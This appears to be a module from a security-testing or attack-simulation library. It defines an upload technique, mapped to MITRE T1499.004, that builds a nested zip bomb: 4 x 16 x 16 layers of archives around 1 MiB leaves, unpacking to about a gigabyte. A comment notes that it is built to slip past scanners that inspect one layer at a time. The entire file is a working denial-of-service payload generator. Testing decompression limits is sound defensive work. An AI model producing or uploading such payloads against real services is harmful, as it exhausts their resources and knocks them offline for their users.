import { archive } from '../../../archive.ts';
import { upload } from '../../../upload.ts';

/** Each layer looks harmless to a scanner that counts one layer at a time. */
export const technique = upload({
  id: 'impact.nested-zip-bomb-upload',
  title: 'Upload a zip bomb of archives in archives',
  purpose: 'Whatever follows every layer without one limit over all of them unpacks a gigabyte.',
  mitre: ['T1499.004'],
  sources: [
    {
      title: 'Endpoint Denial of Service: Application or System Exploitation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1499/004/',
    },
  ],
  contentType: 'application/zip',
  payload: () => nested(),
});

/** 4 x 16 x 16 leaves of one mebibyte. */
function nested(): Uint8Array {
  const many = (count: number, content: Uint8Array): Uint8Array =>
    archive(
      Object.fromEntries(Array.from({ length: count }, (_, at) => [`part-${at}.zip`, content])),
    );
  const leaf = archive({ 'page.dat': new Uint8Array(1024 * 1024) });
  return many(4, many(16, many(16, leaf)));
}
